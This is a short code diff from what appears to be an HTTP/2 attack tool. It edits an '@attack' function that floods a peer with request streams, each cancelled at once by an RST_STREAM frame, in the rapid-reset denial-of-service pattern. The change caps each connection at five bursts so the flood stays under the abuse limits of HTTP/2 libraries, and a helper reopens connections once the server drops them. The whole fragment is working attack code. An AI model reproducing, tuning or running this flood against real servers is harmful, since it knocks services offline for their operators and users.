@@ -346,10 +346,10 @@ def is_closed(sock: socket.socket) -> bool:
 
 @attack
 def open_and_reset(peer: Peer) -> None:
-    """Streams opened and reset as fast as they go; a connection that is sent away is made anew."""
+    """Streams opened and reset as fast as they go, no more on a connection than HTTP/2 libraries tolerate."""
     for connected in connections_anew(peer):
         encoder, stream = hpack.Encoder(), 1
-        while not peer.over:
+        for _ in range(5):
             burst = bytearray()
             for _ in range(200):
                 burst += request(encoder, stream, STREAM) + frame(3, 0, stream, struct.pack(">I", 8))
